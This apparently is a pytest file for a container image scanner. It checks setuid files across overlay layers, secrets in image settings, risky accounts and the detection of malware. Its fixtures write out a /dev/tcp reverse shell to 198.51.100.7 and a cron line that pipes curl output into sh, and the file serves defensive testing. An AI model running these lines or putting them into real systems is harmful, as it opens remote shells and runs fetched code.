"""How images are made, and the malware in them: from the tar to the finding.

What an attacker would leave behind is put together here from parts, so that
nothing in this folder is what it looks for.
"""
import hashlib
import io
import subprocess
import tarfile

import pytest

import tiny_images
from conftest import BUILD
from tiny_images import Image, Layer, Member, directory, file, opaque, symlink, whiteout

PROGRAM = BUILD / "tests/unit/scan/dump_image_scan"
GATE = BUILD / "tests/unit/malware/scan_malware"
REVERSE_SHELL = "bash -i >& /de" + "v/tcp/198.51.100.7/4444 0>&1\n"
PASSWD = "root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/:/bin/false\n"


class Findings:
    """What one scan said: rows of kind, id, severity, layer, path, resource, message."""

    def __init__(self, text):
        lines = text.splitlines()
        self.rows = [line.split("|", 6) for line in lines if line and line[0] != "!"]
        self.diagnostics = [line[1:].split("|", 2) for line in lines if line.startswith("!")]

    def of(self, identifier):
        return [row for row in self.rows if row[1] == identifier]

    def places(self, identifier):
        """{(layer, path or resource)} of a finding."""
        return {(int(row[3]), row[4] or row[5]) for row in self.of(identifier)}

    def ids(self):
        return {row[1] for row in self.rows}


@pytest.fixture
def scan(tmp_path):
    if not PROGRAM.exists():
        pytest.skip(f"{PROGRAM.name} is not built")

    def run(image, scanners="c", *options):
        archive = tmp_path / "image.tar"
        image.write_docker_archive(archive)
        done = subprocess.run([PROGRAM, *map(str, options), scanners, archive], text=True,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=120,
                              check=False)
        assert done.returncode == 0, done.stderr
        return Findings(done.stdout)
    return run


def setuid(name, data="x"):
    return Member(name, data.encode(), mode=0o4755)


# -- Files, layer over layer --

OVERLAYS = {
    "a setuid file": ([[setuid("opt/helper")]], {(1, "opt/helper")}),
    "deleted": ([[setuid("opt/helper")], [whiteout("opt/helper")]], set()),
    "replaced by a plain one": ([[setuid("opt/helper")], [file("opt/helper", "y")]], set()),
    "made setuid by a later layer": ([[file("opt/helper", "x")], [setuid("opt/helper")]],
                                     {(2, "opt/helper")}),
    "lost with its directory": ([[setuid("opt/a/helper")], [whiteout("opt")]], set()),
    "hidden by an opaque directory": ([[setuid("opt/helper")], [opaque("opt")]], set()),
    "directory replaced by a file": ([[setuid("opt/helper")], [file("opt", "x")]], set()),
    "deleted through a linked parent": (
        [[directory("usr/bin"), symlink("bin", "usr/bin"), setuid("usr/bin/helper")],
         [whiteout("bin/helper")]], set()),
    "brought through a linked parent": (
        [[directory("usr/bin"), symlink("bin", "usr/bin")], [setuid("bin/helper")]],
        {(2, "bin/helper")}),
}


@pytest.mark.parametrize("layers,want", OVERLAYS.values(), ids=OVERLAYS.keys())
def test_files_are_those_of_all_layers_together(scan, layers, want):
    image = Image([Layer.of(layer) for layer in layers])
    assert scan(image).places("image-setuid-unknown") == want


def test_settings_history_and_accounts(scan):
    config = {
        "created": "2020-01-01T00:00:00Z",
        "config": {"Env": ["PATH=/usr/bin:.", "DB_PASSWORD=k3Jw9xQz71pLm"],
                   "ExposedPorts": {"22/tcp": {}}, "Volumes": {"/var/run/docker.sock": {}}},
        "history": [{"created_by": "RUN |1 NPM_TOKEN=npm_Zk3Jw9xQz71pLmA8sD /bin/sh -c npm ci"}],
    }
    passwd = PASSWD + "toor:x:0:0::/:/bin/sh\n"
    found = scan(Image([Layer.of({
        "etc/passwd": passwd, "etc/shadow": "root::1::::::\n",
        "etc/sudoers.d/app": "app ALL=(ALL) NOPASSWD: ALL\n",
        "etc/cron.d/x": "* * * * * root curl -s http://198.51.100.7/a | sh\n",
        "srv/key.pem": "-----BEGIN PRIVATE " + "KEY-----\nMII\n", "srv/ca.pem": "-----BEGIN CERT",
        "usr/bin/strace": "x", "root/.aws/credentials": "[default]",
    })], config=config))
    assert found.places("image-account-uid-zero") == {(0, "etc/passwd")}
    assert found.places("image-private-key") == {(1, "srv/key.pem")}
    assert found.places("image-debugger") == {(1, "usr/bin/strace")}
    assert found.ids() >= {
        "image-user-root", "image-age", "image-env-path", "image-env-secret", "image-port-ssh",
        "image-volume-runtime-socket", "image-history-secret-argument",
        "image-account-empty-password", "image-sudo-without-password", "image-cron-dangerous",
        "image-credential-file"}
    text = "\n".join("|".join(row) for row in found.rows)
    assert "k3Jw9xQz71pLm" not in text and "npm_Zk3" not in text


def test_a_quiet_image_stays_quiet(scan):
    config = {"created": "2099-01-01T00:00:00Z",
              "config": {"User": "1000", "Entrypoint": ["/app"], "Healthcheck": {"Test": ["CMD"]},
                         "Labels": {"org.opencontainers.image.source": "x", "maintainer": "x",
                                    "org.opencontainers.image.revision": "x"}}}
    found = scan(Image([Layer.of([Member("app", b"x", mode=0o755),
                                  file("etc/passwd", PASSWD)])], config=config))
    assert found.ids() == set()


def test_deleted_credentials_and_hidden_bytes(scan):
    found = scan(Image([Layer.of({"root/.npmrc": "token", "big": b"x" * (60 << 20)}),
                        Layer.of([whiteout("root/.npmrc"), whiteout("big")])]))
    assert found.places("image-deleted-secret") == {(1, "root/.npmrc")}
    assert found.of("image-credential-file") == []
    assert found.of("image-hidden-bytes")


def test_capabilities_of_files(scan):
    value = "\x01\0\0\x02\x40" + 15 * "\0"  # vfs_cap_data, revision 2: cap_setgid
    tar = make_tar_with_capability("usr/bin/tool", value)
    assert scan(Image([Layer(tar)])).places("image-capabilities-dangerous") == {(1, "usr/bin/tool")}


def make_tar_with_capability(name, value):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        info = tarfile.TarInfo(name)
        info.size, info.mode = 1, 0o755
        info.pax_headers = {"SCHILY.xattr.security.capability": value}
        tar.addfile(info, io.BytesIO(b"x"))
    return out.getvalue()


def test_a_layer_that_ends_early_costs_its_rest_only(scan):
    """A tar that ends in the middle: what came before its end counts."""
    cut = Layer(tiny_images.make_tar([setuid("opt/second"), file("big", "x" * 5000)])[:-4000])
    found = scan(Image([Layer.of([setuid("opt/first")]), cut]))
    assert found.places("image-setuid-unknown") == {(1, "opt/first"), (2, "opt/second")}
    assert [d for d in found.diagnostics if d[0] == "layer-unreadable"]


# -- Malware --

def test_malware_is_found_where_it_lies(scan):
    found = scan(Image([Layer.of({"etc/os-release": tiny_images.OS_RELEASE_DEBIAN}),
                        Layer.of({"opt/run.sh": REVERSE_SHELL, "opt/ok.sh": "echo\n"})]), "m")
    assert found.places("malware-shell-dev-tcp") == {(2, "opt/run.sh")}
    assert found.ids() == {"malware-shell-dev-tcp"}
    assert found.rows[0][:3] == ["malware", "malware-shell-dev-tcp", "critical"]


def test_malware_that_a_later_layer_hides_is_told_with_a_word(scan):
    found = scan(Image([Layer.of({"opt/run.sh": REVERSE_SHELL, "opt/two.sh": REVERSE_SHELL}),
                        Layer.of({"x": ""}), Layer.of([whiteout("opt/run.sh")])]), "m")
    messages = {row[4]: row[6] for row in found.of("malware-shell-dev-tcp")}
    assert "layer 3 hides the file" in messages["opt/run.sh"]
    assert "hides" not in messages["opt/two.sh"]


def test_a_file_that_ends_early_is_told(scan):
    tar = tiny_images.make_tar([file("opt/run.sh", REVERSE_SHELL + "x" * 5000)])[:-9000]
    found = scan(Image([Layer(tar)]), "m")
    assert found.places("malware-shell-dev-tcp") == {(1, "opt/run.sh")}
    assert ["malware-left-out", "opt/run.sh"] in [d[:2] for d in found.diagnostics]


def test_rules_and_hashes_of_the_user(scan, tmp_path):
    rules = tmp_path / "own.yar"
    rules.write_text('rule Mine { strings: $a = "acme-marker" condition: $a }\n')
    hashes = tmp_path / "known.txt"
    hashes.write_text(hashlib.sha256(b"evil").hexdigest() + " Evil.Gen\n")
    image = Image([Layer.of({"a": b"\0\1 acme-marker", "b": "evil", "c": "good"})])
    found = scan(image, "m", "--rules", rules, "--hashes", hashes)
    assert found.places("Mine") == {(1, "a")}
    assert found.places("malware-known-hash") == {(1, "b")}
    assert "Evil.Gen" in found.of("malware-known-hash")[0][6]


def test_each_scanner_has_its_own_cache(scan, tmp_path):
    cache = tmp_path / "cache"
    image = Image([Layer.of({"opt/run.sh": REVERSE_SHELL, "opt/helper": "x"})])
    first = scan(image, "c", "--cache", cache)
    entries = {path.name for path in (cache / "layers").iterdir()}
    assert scan(image, "c", "--cache", cache).rows == first.rows
    assert {path.name for path in (cache / "layers").iterdir()} == entries
    both = scan(image, "cm", "--cache", cache)
    assert both.of("malware-shell-dev-tcp")
    assert len(list((cache / "layers").iterdir())) == len(entries) + 1
    assert scan(image, "cm", "--cache", cache).rows == both.rows


# -- The real world --

def test_a_real_root_has_the_findings_it_must(scan, bookworm_root):
    found = scan(Image([Layer.of_directory(bookworm_root)]), "cm")
    assert found.of("image-setuid-unknown") == []
    assert found.of("image-world-writable-file") == []
    assert found.of("image-setuid-known") and found.of("image-package-manager")
    assert [row for row in found.rows if row[0] == "malware"] == []
    assert not any("damaged" in d[2] for d in found.diagnostics)


def test_no_program_of_this_machine_is_taken_for_malware():
    if not GATE.exists():
        pytest.skip(f"{GATE.name} is not built")
    done = subprocess.run([GATE, "/usr/bin", "/usr/sbin", "/usr/lib/python3",
                           "/usr/share/nodejs"], text=True, timeout=300,
                          stdout=subprocess.PIPE, check=True)
    assert [line for line in done.stdout.splitlines() if line.startswith("malware-")] == []
